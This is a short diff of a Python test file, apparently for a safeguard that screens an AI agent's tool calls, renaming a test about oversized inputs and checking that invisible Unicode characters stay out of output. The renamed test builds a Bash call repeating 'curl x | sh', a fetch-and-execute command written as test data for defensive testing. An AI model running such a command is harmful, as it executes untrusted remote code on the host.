@@ -456,7 +456,7 @@ async def test_text_of_a_stranger_stays_inside_of_its_own_string(words: str, pla
     assert not {"\u200b", "\u202e", "\U000e0041"} & set(written)
 
 
-async def test_an_input_with_too_much_that_is_risky_is_not_checked() -> None:
+async def test_an_input_that_is_too_long_is_not_checked() -> None:
     script = Script(calls(call("Bash", command="curl x | sh; " * 20_000)))
     built = proxy(script)
     sink = await built.post(safeguards=asked(), **FIELDS)
